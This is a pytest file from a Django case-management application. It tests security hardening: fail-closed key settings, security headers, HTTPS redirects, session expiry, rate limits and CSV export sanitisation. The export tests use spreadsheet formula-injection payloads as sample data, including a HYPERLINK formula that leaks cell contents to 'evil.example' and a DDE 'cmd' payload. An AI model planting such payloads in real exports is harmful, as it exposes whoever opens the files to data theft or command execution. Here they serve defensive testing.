"""Issue 10, findings 5, 8 and 9: settings fail closed, a deployment is hardened, exports run no formulas,
and every door has a rate limit.

Production starts are real subprocesses (``manage.py check --deploy``, gunicorn) with DEBUG off and the
deployment's own keys: that is how a deployment loads these settings, whatever this test process was given.
"""

import csv
import http.client
import io
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from cryptography.fernet import Fernet
from django.conf import settings
from django.core.cache import cache
from django.test import override_settings
from django.utils import timezone

from casework import csvsafe
from casework import permissions as roles
from casework import services as cws
from casework.middleware import LAST_SEEN_AT, SIGNED_IN_AT
from courtwatch import services as courtwatch
from courtwatch.models import WithdrawalReview
from reporting import exports
from tests.factories import CourtFactory, FacilityFactory, IncidentFactory, PoliceCaseFactory

BASE_DIR = Path(settings.BASE_DIR)
KEYS = ("SECRET_KEY", "IDENTITY_ENCRYPTION_KEY", "PSEUDONYM_KEY")
# Only these are inherited: this process may carry DEBUG, keys or test switches (DJANGO_ALLOW_ASYNC_UNSAFE
# from the browser tests) that a deployment would not have.
INHERITED = ("PATH", "HOME", "LANG", "LC_ALL", "TMPDIR", "VIRTUAL_ENV")


def production_env(**overrides) -> dict:
    """A deployment's environment: DEBUG off, three keys of its own, a real host name."""
    env = {k: os.environ[k] for k in INHERITED if k in os.environ}
    env.update(
        DEBUG="false",
        SECRET_KEY="deployment-secret-" + "k3y" * 20,
        IDENTITY_ENCRYPTION_KEY=Fernet.generate_key().decode(),
        PSEUDONYM_KEY="deployment-pseudonym-key-7f3a9c",
        ALLOWED_HOSTS="example.org",
        DATABASE_URL="sqlite:///:memory:",
        CELERY_BROKER_URL="",
        DJANGO_SETTINGS_MODULE="config.settings",
    )
    env.update(overrides)
    return {k: v for k, v in env.items() if v is not None}


def manage(*args, env) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )


# ------------------------------------------------------------------ fail closed


def test_check_deploy_gives_no_warning_with_production_settings():
    result = manage("check", "--deploy", "--fail-level", "WARNING", env=production_env())
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout
    assert "WARNING" not in result.stdout + result.stderr


@pytest.mark.parametrize("missing", KEYS)
def test_a_production_start_without_its_own_key_refuses_naming_the_variable(missing):
    result = manage("check", env=production_env(**{missing: None}))
    assert result.returncode != 0
    assert f"{missing} is not set" in result.stderr
    assert "Refusing to start with DEBUG off" in result.stderr


@pytest.mark.parametrize("key", KEYS)
def test_the_public_development_values_are_refused_outside_debug(key):
    result = manage("check", env=production_env(**{key: settings.DEV_KEYS[key]}))
    assert result.returncode != 0
    assert f"{key} is the public development value" in result.stderr


def test_debug_is_off_unless_set():
    result = manage("check", env=production_env(DEBUG=None, SECRET_KEY=None))
    assert result.returncode != 0
    assert "Refusing to start with DEBUG off: SECRET_KEY is not set" in result.stderr


def test_an_old_identity_key_next_to_the_development_key_is_refused_too():
    own = Fernet.generate_key().decode()
    key_list = f"{own},{settings.DEV_KEYS['IDENTITY_ENCRYPTION_KEY']}"
    result = manage("check", env=production_env(IDENTITY_ENCRYPTION_KEY=key_list))
    assert "IDENTITY_ENCRYPTION_KEY is the public development value" in result.stderr


def run(command, *, env) -> subprocess.CompletedProcess:
    return subprocess.run(command, cwd=BASE_DIR, env=env, capture_output=True, text=True, timeout=60)


def test_gunicorn_refuses_to_serve_without_the_deployments_keys():
    gunicorn = str(Path(sys.executable).with_name("gunicorn"))
    result = run([gunicorn, "config.wsgi", "--bind", "127.0.0.1:0"], env=production_env(PSEUDONYM_KEY=None))
    assert result.returncode != 0
    assert "PSEUDONYM_KEY is not set" in result.stderr


def test_a_celery_worker_refuses_to_start_without_the_deployments_keys():
    celery = str(Path(sys.executable).with_name("celery"))
    result = run([celery, "-A", "config", "worker"], env=production_env(IDENTITY_ENCRYPTION_KEY=None))
    assert result.returncode != 0
    assert "IDENTITY_ENCRYPTION_KEY is not set" in result.stderr + result.stdout


def test_a_tool_that_only_reads_the_models_loads_without_keys_but_cannot_sign_or_link():
    """The contract check imports the models; nothing it could do with an empty key is allowed."""
    script = (
        "import django; django.setup()\n"
        "from django.apps import apps; print(len(apps.get_models()) > 0)\n"
        "from referrals import crypto\n"
        "try:\n    crypto.pseudonym('8001015009087')\nexcept Exception as e:\n    print(type(e).__name__)\n"
    )
    result = run([sys.executable, "-c", script], env=production_env(**dict.fromkeys(KEYS)))
    assert result.stdout.split() == ["True", "ImproperlyConfigured"], result.stderr


def test_under_debug_the_identity_key_is_not_derived_from_the_secret_key(settings):
    from referrals import crypto

    token = crypto.encrypt("Thandiwe Mokoena")
    settings.SECRET_KEY = "another-secret-key-entirely-" + "x" * 30
    assert crypto.decrypt(token) == "Thandiwe Mokoena"


# ------------------------------------------------------------------ a deployment under gunicorn


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def deployed():
    """gunicorn with DEBUG off behind a TLS proxy (X-Forwarded-Proto), no collectstatic run."""
    port = _free_port()
    env = production_env(SECURE_PROXY_SSL_HEADER="HTTP_X_FORWARDED_PROTO,https")
    proc = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "config.wsgi", "--bind", f"127.0.0.1:{port}", "--workers", "1"],
        cwd=BASE_DIR,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            pytest.fail(f"gunicorn did not start: {proc.stderr.read()}")
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            break
        except OSError:
            time.sleep(0.3)

    def get(path, *, https=True):
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        headers = {"Host": "example.org", **({"X-Forwarded-Proto": "https"} if https else {})}
        conn.request("GET", path, headers=headers)
        response = conn.getresponse()
        body = response.read().decode(errors="replace")
        conn.close()
        return response, body

    yield get
    proc.terminate()
    try:
        proc.wait(timeout=20)
    except subprocess.TimeoutExpired:
        proc.kill()


def test_a_deployment_sends_hsts_csp_and_secure_cookies(deployed):
    response, body = deployed("/accounts/login/")
    assert response.status == 200, body[:500]
    hsts = response.getheader("Strict-Transport-Security")
    assert hsts is not None
    assert int(hsts.split("max-age=")[1].split(";")[0]) >= 365 * 24 * 3600
    assert "includeSubDomains" in hsts and "preload" in hsts
    csp = response.getheader("Content-Security-Policy")
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp
    assert response.getheader("X-Frame-Options") == "DENY"
    assert response.getheader("Referrer-Policy") == "same-origin"
    assert response.getheader("X-Content-Type-Options") == "nosniff"
    cookies = [v for k, v in response.getheaders() if k.lower() == "set-cookie"]
    assert cookies and all("Secure" in c for c in cookies)
    assert "<script>" not in body and "onclick" not in body and "style=" not in body


def test_a_deployment_redirects_plain_http_to_https(deployed):
    response, _ = deployed("/accounts/login/", https=False)
    assert response.status == 301
    assert response.getheader("Location") == "https://example.org/accounts/login/"


@pytest.mark.parametrize(
    ("address", "redirected"), [("10.20.30.40", True), ("127.0.0.1", False), ("::1", False)]
)
def test_plain_http_is_redirected_unless_it_comes_from_this_host_with_no_proxy_declared(
    rf, address, redirected
):
    from casework.middleware import SecurityMiddleware

    request = rf.get("/accounts/login/", REMOTE_ADDR=address, HTTP_HOST="example.org")
    with override_settings(
        SECURE_SSL_REDIRECT=True, SECURE_PROXY_SSL_HEADER=None, ALLOWED_HOSTS=["example.org"]
    ):
        answer = SecurityMiddleware(lambda r: None).process_request(request)
    assert (answer is not None and answer["Location"] == "https://example.org/accounts/login/") == redirected


def test_with_a_proxy_declared_plain_http_from_this_host_is_redirected_too(rf):
    from casework.middleware import SecurityMiddleware

    request = rf.get("/accounts/login/", REMOTE_ADDR="127.0.0.1", HTTP_HOST="example.org")
    proxy = ("HTTP_X_FORWARDED_PROTO", "https")
    with override_settings(
        SECURE_SSL_REDIRECT=True, SECURE_PROXY_SSL_HEADER=proxy, ALLOWED_HOSTS=["example.org"]
    ):
        answer = SecurityMiddleware(lambda r: None).process_request(request)
    assert answer.status_code == 301


def test_a_deployment_serves_static_files_itself(deployed):
    response, body = deployed("/static/casetrail/casetrail.css")
    assert response.status == 200 and ".topbar" in body
    response, body = deployed("/static/casetrail/casetrail.js")
    assert response.status == 200 and "window.print" in body


def test_a_deployment_answers_an_unknown_page_in_words_not_with_the_debug_page(deployed):
    response, body = deployed("/no-such-page/")
    assert response.status == 404
    assert "Page not found" in body
    assert "URLconf" not in body and "Django" not in body and "DEBUG" not in body
    response, body = deployed("/api/v1/no-such-thing/")
    assert response.status == 404 and response.getheader("Content-Type") == "application/json"


# ------------------------------------------------------------------ pages and sessions (in process)


def test_pages_that_carry_identity_are_never_stored(client, clerk):
    client.force_login(clerk)
    r = client.get("/intake/admissions/")
    assert r.status_code == 200
    assert "no-store" in r["Cache-Control"] and "private" in r["Cache-Control"]


def test_api_answers_are_never_stored(api, clerk):
    r = api(clerk).get("/api/v1/admissions/")
    assert r.status_code == 200
    assert "no-store" in r["Cache-Control"]
    assert "no-store" in api().get("/api/v1/incidents/")["Cache-Control"]  # even the 401/403


def test_the_sign_in_page_may_not_be_framed(client):
    r = client.get("/accounts/login/")
    assert r["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in r["Content-Security-Policy"]


def _age_session(client, **seconds_ago):
    session = client.session
    now = int(timezone.now().timestamp())
    for key, ago in seconds_ago.items():
        session[key] = now - ago
    session.save()


def test_a_session_idle_for_more_than_30_minutes_ends(client, clerk):
    client.force_login(clerk)
    assert client.get("/intake/admissions/").status_code == 200
    _age_session(client, **{LAST_SEEN_AT: 29 * 60})
    assert client.get("/intake/admissions/").status_code == 200  # within the limit: and it renews
    _age_session(client, **{LAST_SEEN_AT: 31 * 60})
    r = client.get("/intake/admissions/")
    assert r.status_code == 302 and r["Location"].startswith("/accounts/login/")


def test_a_session_ends_10_hours_after_sign_in_however_active(client, clerk):
    client.force_login(clerk)
    assert client.get("/intake/admissions/").status_code == 200
    _age_session(client, **{SIGNED_IN_AT: 10 * 3600 + 1, LAST_SEEN_AT: 60})
    r = client.get("/intake/admissions/")
    assert r.status_code == 302 and r["Location"].startswith("/accounts/login/")
    assert client.get("/intake/admissions/").status_code == 302  # signed out, not just refused once


def test_the_session_cookie_lasts_30_minutes_and_ends_with_the_browser():
    assert settings.SESSION_COOKIE_AGE == 30 * 60
    assert settings.SESSION_SAVE_EVERY_REQUEST and settings.SESSION_EXPIRE_AT_BROWSER_CLOSE


def test_an_unknown_page_is_answered_in_words(client, clerk):
    client.force_login(clerk)
    r = client.get("/no-such-page/")
    assert r.status_code == 404
    body = r.content.decode()
    assert "Page not found" in body and "URLconf" not in body


def test_the_server_error_page_needs_neither_database_nor_request():
    from django.template.loader import get_template

    html = get_template("500.html").render()  # as Django's handler500 renders it: no context at all
    assert "Something went wrong" in html


def test_no_template_carries_inline_script_or_style():
    offenders = []
    for path in (BASE_DIR / "templates").rglob("*.html"):
        text = path.read_text()
        for needle in ("<script>", "<style", "style=", "onclick=", "onchange=", "onsubmit=", "javascript:"):
            if needle in text:
                offenders.append(f"{path.relative_to(BASE_DIR)}: {needle}")
    assert offenders == []


# ------------------------------------------------------------------ exports (finding 8)


@pytest.mark.parametrize(
    "value, shown",
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("Thandiwe Mokoena", "Thandiwe Mokoena"),
        ("RC 12/2025", "RC 12/2025"),
        (-3, -3),
        (0.25, 0.25),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_neutralised(value, shown):
    assert csvsafe.safe_cell(value) == shown


@pytest.fixture
def withdrawn_review(make_user):
    court = CourtFactory(name="Mitchells Plain Regional Court")
    npa = make_user(roles.NPA_LIAISON, grants=[court])
    member = make_user(roles.COMMITTEE_MEMBER)
    prosecution = cws.prosecution_enrol(
        actor=None,
        police_case=PoliceCaseFactory(opened_on=timezone.localdate(), incidents=[IncidentFactory()]),
        court=court,
        case_number="RC 77/2026",
        enrolled_on=timezone.localdate(),
        accused=[{"name": '=HYPERLINK("http://evil.example/?"&A1,"Open")'}, {"name": "@SUM(1+1)"}],
    )
    cws.prosecution_withdraw(prosecution, actor=None, version=None, reason="witness_intimidated")
    meeting = courtwatch.meeting_create(actor=member, date=timezone.localdate(), members=[member])
    review = WithdrawalReview.objects.get(prosecution=prosecution)
    review = courtwatch.review_schedule(review, actor=member, version=None, meeting=meeting)
    courtwatch.review_decide(
        review, actor=member, version=None, decision="uphold_withdrawal", rationale="+cmd|' /C calc'!A0"
    )
    del npa
    return meeting, member


def test_the_committee_agenda_csv_runs_no_formula(client, withdrawn_review):
    meeting, member = withdrawn_review
    client.force_login(member)
    r = client.get(f"/courtwatch/meetings/{meeting.pk}/agenda.csv")
    assert r.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert row["accused"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open"); @SUM(1+1)'
    assert row["rationale"] == "'+cmd|' /C calc'!A0"
    assert row["case_number"] == "RC 77/2026"


def test_a_report_csv_runs_no_formula_and_keeps_its_numbers():
    text = exports.csv_text(
        ["group", "label", "count", "change"],
        [{"group": "court-a", "label": "=1+2", "count": 4, "change": -2}, {"group": "total", "label": "@x"}],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["group", "label", "count", "change"],
        ["court-a", "'=1+2", "4", "-2"],
        ["total", "'@x", "", ""],
    ]


def test_the_conviction_rate_csv_neutralises_a_group(db, make_user, api):
    from casework.models import Court
    from tests.reporting.cohort import MARCH, conviction_cohort

    conviction_cohort()
    Court.objects.filter(code="court-a").update(code='=HYPERLINK("http://evil.example")')
    analyst = make_user(roles.VPU_ANALYST)
    r = api(analyst).get(
        "/api/v1/reports/conviction-rate/",
        {**MARCH, "group_by": "court", "format": "csv", "unsuppressed": "1"},
    )
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert [row["group"] for row in rows] == ['\'=HYPERLINK("http://evil.example")', "court-b", "total"]
    assert rows[0]["convictions"] == "2"


# ------------------------------------------------------------------ throttling (finding 9)


def _rates(**rates):
    return override_settings(
        REST_FRAMEWORK={
            **settings.REST_FRAMEWORK,
            "DEFAULT_THROTTLE_RATES": {**settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], **rates},
        }
    )


@pytest.fixture
def fresh_limits():
    cache.clear()
    yield
    cache.clear()


def test_too_many_api_requests_get_a_clear_429_with_retry_after(fresh_limits, api, clerk):
    client = api(clerk)
    with _rates(user="5/minute"):
        answers = [client.get("/api/v1/admissions/") for _ in range(8)]
    assert [a.status_code for a in answers] == [200] * 5 + [429] * 3
    refused = answers[-1]
    assert 1 <= int(refused["Retry-After"]) <= 60
    body = refused.json()
    assert body["detail"].startswith("Too many requests: try again in ") and body["retry_after"] >= 1


def test_a_hundred_api_requests_at_once_are_refused_after_the_burst_limit(fresh_limits, api, clerk):
    """Finding 9: 100 API requests in half a second were all answered. The burst limit counts them on its
    own (the per-minute limit off here); its window is stretched to a minute so a slow machine cannot
    spread the hundred over several windows."""
    client = api(clerk)
    with _rates(user=None, burst="20/minute"):
        codes = [client.get("/api/v1/incidents/").status_code for _ in range(100)]
    assert codes == [200] * 20 + [429] * 80


def test_a_sending_systems_feed_meets_the_intake_limit_not_a_persons(fresh_limits, api, make_sender):
    sender = make_sender("Feed", facilities=[FacilityFactory()])
    with _rates(user="2/minute", burst="2/second", intake="100/minute"):
        codes = [
            api(sender.account)
            .post("/api/v1/intake/hl7/", "MSH|", content_type="application/hl7-v2")
            .status_code
            for _ in range(5)
        ]
    assert 429 not in codes


def test_one_user_over_the_limit_does_not_stop_another(fresh_limits, api, clerk, make_user):
    other = make_user(roles.HEALTH_CAPTURE, grants=[FacilityFactory()])
    with _rates(user="2/minute"):
        for _ in range(3):
            api(clerk).get("/api/v1/admissions/")
        assert api(clerk).get("/api/v1/admissions/").status_code == 429
        assert api(other).get("/api/v1/admissions/").status_code == 200


def test_many_accounts_from_one_address_meet_the_address_limit(fresh_limits, api, make_user):
    users = [make_user(roles.VPU_ANALYST) for _ in range(4)]
    with _rates(address="3/minute"):
        codes = [api(u).get("/api/v1/incidents/").status_code for u in users]
    assert codes == [200, 200, 200, 429]


def test_anonymous_requests_are_limited_per_address(db, fresh_limits, api):
    # Anonymous requests to protected endpoints are refused (401) before any throttle counts them;
    # what is open to them, token issue, counts against the per-address "anon" limit.
    with _rates(anon="2/minute", auth=None, auth_address=None):
        codes = [
            api().post("/api/v1/auth/token/", {"username": "x", "password": "y"}).status_code
            for _ in range(3)
        ]
    assert 429 not in codes[:2] and codes[2] == 429


def test_intake_has_its_own_limit_per_sender(fresh_limits, api, clerk):
    with _rates(intake="1/minute"):
        first = api(clerk).post("/api/v1/intake/hl7/", "MSH|", content_type="application/hl7-v2")
        second = api(clerk).post("/api/v1/intake/hl7/", "MSH|", content_type="application/hl7-v2")
    assert first.status_code != 429
    assert second.status_code == 429


def test_token_issue_is_limited_per_address(db, fresh_limits, api):
    with _rates(auth="100/minute", auth_address="3/minute"):
        codes = [
            api().post("/api/v1/auth/token/", {"username": f"u{i}", "password": "wrong"}).status_code
            for i in range(4)
        ]
    assert 429 not in codes[:3] and codes[3] == 429


def test_csv_exports_from_pages_are_limited_too(fresh_limits, client, withdrawn_review):
    meeting, member = withdrawn_review
    client.force_login(member)
    with _rates(exports="2/minute"):
        codes = [client.get(f"/courtwatch/meetings/{meeting.pk}/agenda.csv").status_code for _ in range(3)]
        refused = client.get(f"/courtwatch/meetings/{meeting.pk}/agenda.csv")
    assert codes == [200, 200, 429]
    assert refused.status_code == 429 and int(refused["Retry-After"]) >= 1
    assert "Too many requests" in refused.content.decode()
    assert client.get(f"/courtwatch/meetings/{meeting.pk}/").status_code == 200  # other pages go on


def test_report_api_csv_counts_as_an_export(fresh_limits, api, make_user):
    manager = make_user(roles.MANAGER)
    with _rates(exports="1/minute"):
        first = api(manager).get("/api/v1/reports/conviction-rate/", {"format": "csv"})
        second = api(manager).get("/api/v1/reports/conviction-rate/", {"format": "csv"})
        json_answer = api(manager).get("/api/v1/reports/conviction-rate/")
    assert first.status_code == 200 and second.status_code == 429
    assert json_answer.status_code == 200


def test_a_malformed_rate_refuses_to_start_naming_it():
    result = manage("check", env={**production_env(), "THROTTLE_RATE_EXPORTS": "lots"})
    assert result.returncode != 0 and "THROTTLE_RATE_EXPORTS" in result.stderr


def test_sign_in_posts_from_one_address_are_limited_whichever_username(db, fresh_limits, client):
    with _rates(login="3/minute"):
        codes = [
            client.post("/accounts/login/", {"username": f"nurse{i}", "password": "Winter2025!"}).status_code
            for i in range(4)
        ]
        page = client.get("/accounts/login/")
    assert codes == [200, 200, 200, 429]
    assert page.status_code == 200  # the form itself still shows
